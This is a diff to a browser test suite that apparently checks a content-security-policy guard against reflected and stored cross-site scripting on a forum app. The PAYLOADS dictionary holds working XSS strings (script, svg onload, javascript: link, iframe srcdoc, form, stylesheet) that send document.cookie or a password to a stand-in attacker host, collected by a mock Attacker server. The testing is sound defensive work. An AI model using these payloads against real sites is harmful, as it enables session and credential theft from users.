@@ -24,7 +24,7 @@ from tests.browser.watching import Watch
 
 pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]
 
-SEND = "new Image().src='EVIL/take?cookies='+document.cookie"
+SEND = "new Image().src='EVIL/take/NAME?cookies='+document.cookie"
 PAYLOADS = {
     "script": f"<script>{SEND}</script>",
     "foreign-script": "<script src='EVIL/script'></script>",
@@ -32,8 +32,8 @@ PAYLOADS = {
     "svg": f'<svg onload="{SEND}"></svg>',
     "link": f'<a id=bait href="javascript:void({SEND})">prize</a>',
     "frame": f'<iframe srcdoc="<script>{SEND}</script>"></iframe>',
-    "form": "<form action='EVIL/take'><input name=password value=secret><button id=bait>Go on</button></form>",
-    "stylesheet": "<link rel=stylesheet href='EVIL/take'>",
+    "form": "<form action='EVIL/take/NAME'><input name=password value=secret><button id=bait>Go on</button></form>",
+    "stylesheet": "<link rel=stylesheet href='EVIL/take/NAME'>",
 }
 
 
@@ -45,14 +45,19 @@ class Attacker:
 
     @property
     def app(self) -> Starlette:
-        return Starlette(routes=[Route("/take", self.take), Route("/script", self.script)])
+        return Starlette(routes=[Route("/take/{name}", self.take), Route("/script", self.script)])
 
     async def take(self, request: Request) -> Response:
-        self.taken.append(request.url.query)
+        self.taken.append(request.path_params["name"])
         return PlainTextResponse("thanks")
 
     async def script(self, request: Request) -> Response:
-        return Response(SEND.replace("EVIL", str(request.base_url).rstrip("/")), media_type="text/javascript")
+        script = SEND.replace("EVIL", str(request.base_url).rstrip("/")).replace("NAME", "foreign-script")
+        return Response(script, media_type="text/javascript")
+
+
+def payload(name: str, evil: str) -> str:
+    return PAYLOADS[name].replace("EVIL", evil).replace("NAME", name)
 
 
 def visit(page: Page, address: str) -> None:
@@ -68,16 +73,17 @@ def test_reflected_script_is_stopped_and_reported(
     attacker = Attacker()
     evil = serve(attacker.app).at("evil.localhost")
     app, events = guard(Forum().app, folder)
-    asked = "/search?q=" + quote(PAYLOADS[name].replace("EVIL", evil))
+    asked = "/search?q=" + quote(payload(name, evil))
 
-    visit(visitor.new_page(), serve(app).url + asked)
-    assert eventually(lambda: watch.violations)
+    page = visitor.new_page()
+    visit(page, serve(app).url + asked)
+    assert watch.wait_for_violation(page)
     assert attacker.taken == []
     if name != "frame":  # Chromium sends no reports of a srcdoc frame, though it enforces the policy there
         assert events.wait(name="browser_report")["details"]["kind"] == "csp-violation"
 
     visit(visitor.new_page(), serve(Forum().app).url + asked)
-    assert eventually(lambda: attacker.taken)  # control
+    assert eventually(lambda: attacker.taken) == [name]  # control
 
 
 def test_stored_script_is_stopped_for_every_reader(
@@ -85,7 +91,7 @@ def test_stored_script_is_stopped_for_every_reader(
 ) -> None:
     attacker, forum, bare = Attacker(), Forum(), Forum()
     evil = serve(attacker.app).at("evil.localhost")
-    forum.posts = bare.posts = [text.replace("EVIL", evil) for text in PAYLOADS.values()]
+    forum.posts = bare.posts = [payload(name, evil) for name in PAYLOADS]
     app, events = guard(forum.app, folder)
 
     page = visitor.new_page()
@@ -96,7 +102,8 @@ def test_stored_script_is_stopped_for_every_reader(
     assert attacker.taken == []
 
     visitor.new_page().goto(serve(bare.app).url)
-    assert eventually(lambda: len(attacker.taken) >= len(PAYLOADS) - 2)  # control: all that need no click
+    unasked = PAYLOADS.keys() - {"link", "form"}
+    assert eventually(lambda: set(attacker.taken) >= unasked)  # control: all that need no click
 
 
 def test_a_report_names_the_rule_and_hides_what_the_address_held(
